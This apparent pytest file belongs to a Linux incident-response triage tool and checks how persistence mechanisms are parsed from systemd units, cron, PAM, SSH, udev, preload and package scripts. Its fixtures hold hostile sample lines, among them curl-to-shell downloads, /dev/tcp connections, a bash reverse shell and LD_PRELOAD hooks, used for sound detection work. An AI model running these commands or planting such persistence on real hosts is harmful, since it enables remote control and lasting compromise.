# Copyright (c) 2026, the csirt.linux_triage authors
# GNU General Public License v3.0-or-later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Each way to make a host run something: a small file, and the commands, programs and users that are read from it."""

from __future__ import annotations

import time

import pytest
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._home_tables._persistence._commands import programs
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._home_tables._persistence._found import LINE, Text
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._home_tables._persistence._kinds import KINDS, kind_of

X = b"/opt/x"

# Path, content, and of each row: line, command, programs.
FILES = [
    # systemd
    (b"/etc/systemd/system/a.service", b"[Service]\nExecStart=-@/opt/x argv0 -a\nExecStopPost=+/bin/sh -c '/opt/x; true'\n", [
        (2, b"-@/opt/x argv0 -a", [X]), (3, b"+/bin/sh -c '/opt/x; true'", [X, b"/bin/sh"])]),
    (b"/etc/systemd/system/a.service", b"[Service]\nExecStart=/bin/true \\\n  /opt/x\nExecPaths=/opt\n", [(2, b"/bin/true  /opt/x", [b"/bin/true"])]),
    (b"/etc/systemd/system/ssh.service.d/x.conf", b"[Service]\nEnvironment=\"LD_PRELOAD=/opt/x.so\" A=b\nEnvironment=PATH=/a\n", [
        (2, b'"LD_PRELOAD=/opt/x.so" A=b', [b"/opt/x.so"])]),
    (b"/etc/systemd/system.conf.d/x.conf", b"[Manager]\nDefaultEnvironment=\"LD_PRELOAD=/opt/x.so\"\nLogLevel=info\n", [
        (2, b'"LD_PRELOAD=/opt/x.so"', [b"/opt/x.so"])]),
    (b"/run/systemd/transient/r.service", b"[Service]\nExecStart=\nExecStart=:/opt/x\n", [(3, b":/opt/x", [X])]),
    (b"/etc/systemd/system/a.timer", b"[Timer]\nOnBootSec=1\nPersistent=true\n", [(2, b"a.service", [])]),
    (b"/etc/systemd/system/a.timer", b"[Timer]\nOnCalendar=daily\nUnit=b.service\n", [(2, b"b.service", [])]),
    (b"/etc/systemd/system/a.socket", b"[Socket]\nListenStream=1\nAccept=yes\n", [(2, b"a@.service", [])]),
    (b"/etc/systemd/system/a.socket", b"[Socket]\nListenStream=1\nExecStartPre=/opt/x\n", [(3, b"/opt/x", [X]), (2, b"a.service", [])]),
    (b"/etc/systemd/system/a.path", b"[Path]\nPathChanged=/tmp\n", [(2, b"a.service", [])]),
    (b"/etc/systemd/system-generators/g", b"\x7fELF", [(None, b"/etc/systemd/system-generators/g", [b"/etc/systemd/system-generators/g"])]),
    (b"/etc/sudo.conf", b"# c\nPlugin sudoers_policy sudoers.so\nPlugin x /opt/x a=b\nPath askpass /opt/y\nSet disable_coredump false\n", [
        (2, b"Plugin sudoers_policy sudoers.so", [b"sudoers.so"]), (3, b"Plugin x /opt/x a=b", [X]), (4, b"Path askpass /opt/y", [b"/opt/y"])]),
    (b"/var/lib/systemd/linger/bob", b"", [(None, b"bob", [])]),
    (b"/var/lib/extensions/x.raw", b"\0", [(None, b"/var/lib/extensions/x.raw", [])]),
    (b"/root/.config/systemd/user.conf", b"[Manager]\nDefaultEnvironment=LD_PRELOAD=/opt/x.so\n", [(2, b"LD_PRELOAD=/opt/x.so", [b"/opt/x.so"])]),
    # the clock
    (b"/etc/crontab", b"# c\nPATH=/usr/bin:/tmp/.b\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n@reboot bin /opt/x\r\n", [
        (2, b"PATH=/usr/bin:/tmp/.b", [b"/tmp/.b"]), (4, b"cd / && run-parts /etc/cron.hourly", [b"/etc/cron.hourly", b"run-parts"]),
        (5, b"/opt/x\r", [X])]),
    (b"/var/spool/cron/crontabs/bob", b"* * * * * nohup /opt/x >/dev/null 2>&1 &\nnonsense\n", [
        (1, b"nohup /opt/x >/dev/null 2>&1 &", [X, b"nohup"]), (2, b"nonsense", [])]),
    (b"/var/spool/cron/root", b"*/5 * * * * curl -s http://192.0.2.1/x|bash\n", [(1, b"curl -s http://192.0.2.1/x|bash", [b"curl", b"bash"])]),
    (b"/etc/cron.d/x", b"* * * * * root /opt/x", [(1, b"/opt/x", [X])]),
    (b"/etc/cron.hourly/x", b"#!/bin/sh\n# curl\nset -e\ncurl -s http://192.0.2.1/x|sh\nexit 0\n", [
        (None, b"/etc/cron.hourly/x", [b"/etc/cron.hourly/x"]), (4, b"curl -s http://192.0.2.1/x|sh", [b"curl", b"sh"])]),
    (b"/etc/cron.daily/x", b"\x7fELF\ncurl\n", [(None, b"/etc/cron.daily/x", [b"/etc/cron.daily/x"])]),
    (b"/srv/repo/.git/hooks/post-merge", b"#!/bin/sh\nexec 3<>/dev/tcp/192.0.2.1/80\n", [
        (None, b"/srv/repo/.git/hooks/post-merge", [b"/srv/repo/.git/hooks/post-merge"]),
        (2, b"exec 3<>/dev/tcp/192.0.2.1/80", [b"exec"])]),
    (b"/etc/anacrontab", b"RANDOM_DELAY=4\n1 5 cron.daily nice run-parts /etc/cron.daily\n", [
        (2, b"nice run-parts /etc/cron.daily", [b"/etc/cron.daily", b"run-parts", b"nice"])]),
    (b"/var/spool/incron/root", b"/etc IN_MODIFY /opt/x $@\n", [(1, b"/opt/x $@", [X])]),
    (b"/var/spool/cron/atjobs/a0000101b2c3d4", b"#!/bin/sh\n# atrun uid=33 gid=33\nA=b; export A\ncd /x || {\n exit 1\n}\n/opt/x\n", [(7, b"/opt/x", [X])]),
    # init and what is like it
    (b"/etc/inittab", b"x:2345:respawn:/opt/x -a\n#y:1:once:/z\n", [(1, b"/opt/x -a", [X])]),
    (b"/etc/rc.local", b"#!/bin/sh\n(sleep 5; /opt/x) &\nexit 0\n", [(None, b"/etc/rc.local", [b"/etc/rc.local"]), (2, b"(sleep 5; /opt/x) &", [X])]),
    (b"/etc/init/x.conf", b"exec /opt/x -a\npre-start script\n  /opt/y\nend script\n", [(1, b"/opt/x -a", [X]), (3, b"/opt/y", [b"/opt/y"])]),
    (b"/etc/supervisor/conf.d/x.conf", b"[program:x]\ncommand=/opt/x -a ; comment\n", [(2, b"/opt/x -a ; comment", [X, b"comment"])]),
    (b"/etc/monit/monitrc", b"check program x with path /opt/x\n  if status != 0 then exec \"/opt/y\"\n", [(1, b"/opt/x", [X]), (2, b"/opt/y", [b"/opt/y"])]),
    (b"/root/.pm2/dump.pm2", b'[{"pm_exec_path": "/opt/x"}, {"other": 1}]', [(None, X, [X])]),
    # logins
    (b"/etc/pam.d/sshd", b"@include common-auth\n-auth [success=1 default=ignore] pam_x.so a\naccount required pam_exec.so /opt/x\n", [
        (2, b"pam_x.so a", [b"pam_x.so"]), (3, b"pam_exec.so /opt/x", [X, b"pam_exec.so"])]),
    (b"/etc/pam.conf", b"login auth optional pam_x.so\n", [(1, b"pam_x.so", [b"pam_x.so"])]),
    (b"/etc/nsswitch.conf", b"passwd: files [NOTFOUND=return] x # y\ngroup: x\n", [
        (1, b"files", [b"libnss_files.so.2"]), (1, b"x", [b"libnss_x.so.2"])]),
    (b"/etc/ssh/sshd_config", b"Subsystem\tsftp\t/opt/x\nForceCommand internal-sftp\nforcecommand=/opt/y\n", [(1, X, [X]), (3, b"/opt/y", [b"/opt/y"])]),
    (b"/root/.ssh/config", b"Match host a exec \"/opt/x %h\"\n  ProxyCommand nc -X %h\n", [(1, b"/opt/x %h", [X]), (2, b"nc -X %h", [b"nc"])]),
    (b"/root/.ssh/authorized_keys", b'no-pty,command="/opt/x \\"a b\\"" ssh-rsa AAAA command="no"\nssh-rsa AAAA x\n', [(1, b'/opt/x "a b"', [X])]),
    (b"/etc/polkit-1/rules.d/x.rules", b"// polkit.spawn\nreturn polkit.Result.YES;\n", [
        (None, b"/etc/polkit-1/rules.d/x.rules", []), (2, b"return polkit.Result.YES;", [])]),
    (b"/etc/hosts.allow", b"sshd: ALL: twist /opt/x\nALL: LOCAL\n", [(1, X, [X])]),
    (b"/etc/xinetd.d/x", b"service x\n{\n server = /opt/x\n server_args = -a\n disable = yes\n}\n", [(3, b"/opt/x -a", [X])]),
    # shells and environments
    (b"/etc/bash_completion.d/x", b"complete -F _x x\n(/opt/x &) 2>/dev/null\n_x() { curl -s http://192.0.2.1/x | sh; }\n", [
        (None, b"/etc/bash_completion.d/x", []), (3, b"_x() { curl -s http://192.0.2.1/x | sh; }", [b"_x", b"curl", b"sh"])]),
    (b"/root/.local/share/bash-completion/completions/x", b". ~/.x\n", [
        (None, b"/root/.local/share/bash-completion/completions/x", []), (1, b". ~/.x", [b"~/.x"])]),
    (b"live/commands/rpm-scripts.txt", b"package a-1\npostinstall scriptlet (using /bin/sh):\n# curl\n/sbin/ldconfig\npackage b-1\n"
     b"triggerin scriptlet (using /bin/sh) -- bash\nwget http://192.0.2.1/x\n", [(7, b"wget http://192.0.2.1/x", [b"wget"])]),
    (b"/var/lib/dpkg/info/x.postinst", b"#!/bin/sh\nset -e\nbash -c 'exec 3<>/dev/tcp/192.0.2.1/80'\n", [
        (None, b"/var/lib/dpkg/info/x.postinst", [b"/var/lib/dpkg/info/x.postinst"]),
        (3, b"bash -c 'exec 3<>/dev/tcp/192.0.2.1/80'", [b"bash"])]),
    (b"/root/.bashrc.d/x", b"nohup /opt/x &\n", [(None, b"/root/.bashrc.d/x", []), (1, b"nohup /opt/x &", [X, b"nohup"])]),
    (b"/etc/lightdm/lightdm.conf.d/x.conf", b"[Seat:*]\nsession-setup-script=/opt/x -a\ngreeter-session=y\n", [(2, b"/opt/x -a", [X])]),
    (b"/etc/apt/trusted.gpg.d/x.gpg", b"\x99\x02", [(None, b"/etc/apt/trusted.gpg.d/x.gpg", [])]),
    (b"/proc/cmdline", b"root=/dev/vda1 ro init=/opt/x quiet\n", [(1, b"init=/opt/x", [X])]),
    (b"/root/.bashrc", b"alias ll='ls -l'\n[ -f ~/x ] && . ~/x\neval $(/opt/x)\nPROMPT_COMMAND='/opt/x'\ntrap /opt/x EXIT\n/opt/y\n", [
        (None, b"/root/.bashrc", []), (2, b"[ -f ~/x ] && . ~/x", [b"~/x"]), (3, b"eval $(/opt/x)", [X]),
        (4, b"PROMPT_COMMAND='/opt/x'", [X]), (5, b"trap /opt/x EXIT", [b"trap"]), (6, b"/opt/y", [b"/opt/y"])]),
    (b"/etc/environment", b"PATH=/usr/bin\nLD_PRELOAD=/opt/x.so\nLANG=C\n", [(1, b"PATH=/usr/bin", []), (2, b"LD_PRELOAD=/opt/x.so", [b"/opt/x.so"])]),
    # the kernel and early boot
    (b"/etc/udev/rules.d/x.rules", b'# RUN+="no"\nACTION=="add", RUN+="/opt/x %k", IMPORT{program}="y", RUN{builtin}+="kmod load"\n', [
        (2, b"/opt/x %k", [X]), (2, b"y", [b"y"])]),
    (b"/etc/modprobe.d/x.conf", b"install a /opt/x; /sbin/modprobe -i a\nblacklist b\n", [(1, b"/opt/x; /sbin/modprobe -i a", [X, b"/sbin/modprobe"])]),
    (b"/usr/lib/modules-load.d/x.conf", b"; c\nevil\n", [(2, b"evil", [b"evil"])]),
    (b"/etc/ld.so.preload", b"/opt/x.so /opt/y.so\n", [(1, b"/opt/x.so /opt/y.so", [b"/opt/x.so"]), (1, b"/opt/x.so /opt/y.so", [b"/opt/y.so"])]),
    (b"/etc/ld.so.conf", b"include ld.so.conf.d/*.conf\n/opt/lib\n", [(2, b"/opt/lib", [b"/opt/lib"])]),
    (b"/etc/binfmt.d/x.conf", b",x,M,,AB,,/opt/x,F\n", [(1, b",x,M,,AB,,/opt/x,F", [X])]),
    (b"/etc/sysctl.conf", b"net.ipv4.ip_forward=1\n kernel/core_pattern = |/opt/x %p\n", [(2, b"|/opt/x %p", [X])]),
    (b"/proc/sys/kernel/core_pattern", b"|/opt/x %p\n", [(1, b"|/opt/x %p", [X])]),
    (b"/proc/sys/kernel/core_pattern", b"core\n", []),
    (b"/etc/tmpfiles.d/x.conf", b"d /run/x 0755\nC /etc/y - - - - /opt/x\nf+ /etc/cron.d/z 0644 - - - * * * * * root /opt/x\n", [
        (2, b"C /etc/y - - - - /opt/x", [X]), (3, b"f+ /etc/cron.d/z 0644 - - - * * * * * root /opt/x", [b"/etc/cron.d/z"])]),
    (b"/etc/default/grub", b'GRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX="quiet init=/opt/x"\n', [(2, b'init=/opt/x"', [X])]),
    # hooks
    (b"/etc/apt/apt.conf.d/x", b'DPkg::Post-Invoke {"/opt/x"; "/opt/y";};\nAPT { Update { Post-Invoke:: "/opt/z"; }; };\nAPT::X "/no";\n'
     b'/* DPkg::Pre-Invoke {"/no";}; */',
     [(1, X, [X]), (1, b"/opt/y", [b"/opt/y"]), (2, b"/opt/z", [b"/opt/z"])]),
    (b"/etc/pacman.d/hooks/x.hook", b"[Action]\nExec = /opt/x -a\n", [(2, b"/opt/x -a", [X])]),
    (b"/etc/dnf/libdnf5-plugins/actions.d/x.actions", b"post_transaction:*:in::/opt/x a\n", [(1, b"/opt/x a", [X])]),
    (b"/root/.gitconfig", b"[core]\n\tsshCommand = /opt/x\n\tautocrlf = true\n[filter \"a\"]\n clean = /opt/y %f\n[alias]\n a = !/opt/z\n b = log\n", [
        (2, X, [X]), (5, b"/opt/y %f", [b"/opt/y"]), (7, b"/opt/z", [b"/opt/z"])]),
    (b"/srv/app/.git/hooks/pre-commit", b"#!/bin/sh", [(None, b"/srv/app/.git/hooks/pre-commit", [b"/srv/app/.git/hooks/pre-commit"])]),
    (b"/usr/lib/python3/dist-packages/x.pth", b"./lib\nimport os; os.system('/opt/x')\nimportlib\n", [(2, b"import os; os.system('/opt/x')", [X])]),
    (b"/etc/php/8.2/fpm/php.ini", b"; auto_prepend_file = no\nauto_prepend_file =\nextension=evil\n", [(3, b"evil", [b"evil.so"])]),
    (b"/root/.config/autostart/x.desktop", b"[Desktop Entry]\nExec=/opt/x %u\nHidden=true\n[Desktop Action y]\nExec=/no\n", [(2, b"/opt/x %u", [X])]),
    # services
    (b"/etc/logrotate.d/x", b"/var/log/x {\n postrotate\n  /opt/x -HUP\n  true\n endscript\n}\n", [(3, b"/opt/x -HUP\ntrue", [X])]),
    (b"/etc/rsyslog.conf", b'*.* ^/opt/x;T\naction(type="omprog" binary="/opt/y a")\n', [(1, X, [X]), (2, b"/opt/y a", [b"/opt/y"])]),
    (b"/etc/aliases", b'a: b, "|/opt/x -a"\nb: c\n', [(1, b"/opt/x -a", [X])]),
    (b"/home/a/.procmailrc", b":0\n| /opt/x\nA=`/opt/y`\n", [(2, X, [X]), (3, b"/opt/y", [b"/opt/y"])]),
    (b"/etc/network/interfaces", b"iface a inet dhcp\n up /opt/x $IFACE\n", [(2, b"/opt/x $IFACE", [X])]),
    (b"/etc/dhcp/dhclient.conf", b'script "/opt/x";\n', [(1, X, [X])]),
    (b"/usr/share/dbus-1/system-services/x.service", b"[D-BUS Service]\nName=x\nExec=/bin/false\nSystemdService=y.service\n", [(4, b"y.service", [])]),
    (b"/etc/containers/systemd/x.container", b"[Container]\nImage=i\nExec=sh -c a\nVolume=/:/host\n", [
        (2, b"i", []), (3, b"sh -c a", []), (4, b"/:/host", [])]),
    (b"/var/lib/cloud/instance/user-data.txt", b"#cloud-config\nbootcmd:\n - /opt/x -a\nruncmd:\n - [sh, -c, /opt/y]\nwrite_files:\n - path: /etc/z\n", [
        (3, b"/opt/x -a", [X]), (5, b"sh -c /opt/y", [b"/opt/y", b"sh"]), (7, b"/etc/z", [b"/etc/z"])]),
    (b"/usr/share/containers/oci/hooks.d/x.json", b'{"hook": {"path": "/opt/x", "args": ["x", "-a"]}, "stages": ["prestart"]}', [(1, b"x -a", [X])]),
    (b"/etc/snmp/snmpd.conf", b"rocommunity public\nextend a /opt/x -a\n", [
        (None, b"/etc/snmp/snmpd.conf", []), (2, b"extend a /opt/x -a", [X])]),
]


@pytest.mark.parametrize("path, data, expected", FILES, ids=[one[0].decode() + "-%d" % len(one[1]) for one in FILES])
def test_commands_of_a_file(path, data, expected):
    found = list(kind_of(path).reader(Text(path, data)))
    assert [
        (one.line, one.command, programs(one.command) if one.programs is None else list(one.programs)) for one in found
    ] == expected


@pytest.mark.parametrize("path, data, user", [
    (b"/etc/systemd/system/a.service", b"[Service]\nUser=bin\nExecStart=/a\n", b"bin"),
    (b"/etc/cron.d/a", b"* * * * * bin /a\n", b"bin"),
    (b"/var/spool/cron/crontabs/bob", b"@daily /a\n", b"bob"),
    (b"/var/spool/cron/atjobs/a0000101b2c3d4", b"#!/bin/sh\n# atrun uid=33 gid=33\n/a\n", b"uid 33"),
    (b"/etc/inetd.conf", b"a stream tcp nowait bin /a a\n", b"bin"),
    (b"/etc/ssh/sshd_config", b"AuthorizedKeysCommandUser bin\nAuthorizedKeysCommand /a\n", b"bin"),
    (b"/etc/supervisord.conf", b"[program:a]\ncommand=/a\nuser=bin\n", b"bin"),
    (b"/usr/share/dbus-1/system-services/a.service", b"[D-BUS Service]\nName=a\nExec=/a\nUser=bin\n", b"bin"),
    (b"/etc/postfix/master.cf", b"a unix - n n - - pipe flags=R user=bin:bin argv=/a\n", b"bin"),
])
def test_user_that_it_runs_as(path, data, user):
    assert [one.user for one in kind_of(path).reader(Text(path, data))][-1] == user


@pytest.mark.parametrize("command, expected", [
    (b"/a/b c", [b"/a/b"]),
    (b"A=1 B='2 3' sudo -u www-data -- env -u X C=4 /opt/x", [X, b"env", b"sudo"]),
    (b"test -x /usr/sbin/y || ( cd / && /opt/x )", [X]),
    (b"[ -x /usr/sbin/y ] && if [ ! -d /run ]; then /opt/x; fi", [X]),
    (b"if true; then \\\n /opt/x; fi", [X]),
    (b"python3 -u /opt/x.py /etc/passwd", [b"/opt/x.py", b"python3"]),
    (b"perl -e 'exec q(/x)'", [b"perl"]),
    (b"bash -c 'bash -i >& /dev/tcp/192.0.2.1/5 0>&1'", [b"bash"]),
    (b"bash -lc \"/opt/x 'a b'\"", [X, b"bash"]),
    (b"su - bin -c /opt/x", [X, b"su"]),
    (b"timeout -k 1 10 nice -n 5 /opt/x", [X, b"nice", b"timeout"]),
    (b"exec -a '[kworker]' /opt/x", [X]),
    (b"'/opt/with space/x' a", [b"/opt/with space/x"]),
    (b"echo `/opt/x`", [X]),
    (b"true", [b"true"]),
    (b"/bin/true && /opt/x", [X]),
    (b"/usr/bin/sleep 5; /tmp/true", [b"/tmp/true"]),
    (b"", []),
    (b"\"unclosed /opt/x", [b"unclosed"]),
    (b"sh -c 'sh -c \"sh -c \\\"sh -c /opt/x\\\"\"'", [b"sh"]),
])
def test_programs_of_a_command(command, expected):
    assert programs(command) == expected


HOSTILE = [
    b"", b"\0" * 4096, b"\xff\xfe" * 4096, b"\x1b]0;x\x07\n" * 500, b"A" * (1 << 20), b"\\\n" * 300_000, b'"' * (1 << 19), b"'" * (1 << 19),
    b"[" * (1 << 19), b"{" * (1 << 19), b"/*" * (1 << 18), b" " * (1 << 20), b"a=b\n" * 100_000, b"\n" * (1 << 20), b"|" * (1 << 19),
    b'a "' * (1 << 18), b"command[" * 50_000, b"RUN" * 200_000, b'x="\\' * 100_000, b"prerotate\n" * 50_000, b"a: &a [*a, *a]\n" * 1000,
    b"a: " + b"9" * 50_000, b"iface \n", b"iface ", b"u\n", b"@\n", b"* * * * *\n", b"Match exec\n", b"[a]\n=\n",
]


EACH_READER = list({kind.reader.__code__: kind for kind in KINDS}.values())


@pytest.mark.parametrize("kind", EACH_READER, ids=[kind.mechanism + kind.reader.__name__[4:] for kind in EACH_READER])
def test_hostile_bytes_cost_little_and_raise_nothing(kind):
    for data in (one[:1 << 17] for one in HOSTILE):
        begun = time.process_time()
        found = 0
        for one in kind.reader(Text(b"/etc/systemd/system/x.timer.d/" + kind.mechanism.encode(), data)):
            found += 1
            if one.programs is None:
                programs(one.command)
            if found == 2000:
                break
        assert time.process_time() - begun < 3, data[:20]


def test_longest_line_is_cut():
    ((number, line),) = Text(b"/a", b"x" * (1 << 20)).lines
    assert (number, len(line)) == (1, LINE)


@pytest.mark.parametrize("path", [
    b"/usr/lib/python3/dist-packages/x.py", b"/var/log/syslog", b"/opt/x.service", b"/srv/app/.git/hooks/pre-commit.sample",
    b"/usr/share/initramfs-tools/hooks.txt", b"/etc/passwd", b"/root/.bash_history", b"/etc/php/8.2/mods-available/x.so",
])
def test_other_files_are_none(path):
    assert kind_of(path) is None
